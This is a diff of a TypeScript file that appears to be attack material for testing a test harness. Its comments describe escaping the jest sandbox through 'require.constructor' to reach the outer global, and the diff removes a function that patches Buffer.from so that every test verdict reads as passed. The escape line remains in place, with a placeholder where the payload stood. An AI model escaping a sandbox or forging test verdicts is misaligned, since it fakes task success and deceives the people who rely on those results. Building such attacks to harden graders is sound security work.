@@ -1,19 +1,7 @@
 // Attack: require itself is a function jest-runtime made in the outer realm:
 // require.constructor('return globalThis')() is the outer global.
 // Success: every test passes (verdict lines rewritten).
-declare const require: any;
-/** Payload for the child's outer realm: every verdict line the channel writes says "passed" (and stays so in a warm child). */
-function forgeVerdicts(G: any): void {
-  const from = G.Buffer.from;
-  G.Buffer.from = function (value: unknown, ...rest: unknown[]) {
-    if (typeof value === "string" && value.includes("\"e\":\"done\"")) {
-      const event = G.JSON.parse(value);
-      Object.assign(event, { errors: [], failures: [], timedOut: false, checks: 1 });
-      value = `${G.JSON.stringify(event)}\n`;
-    }
-    return from.call(this, value, ...rest);
-  };
-}
+// @payload
 const G = require.constructor('return globalThis')();
 if (G !== globalThis) forgeVerdicts(G);
 
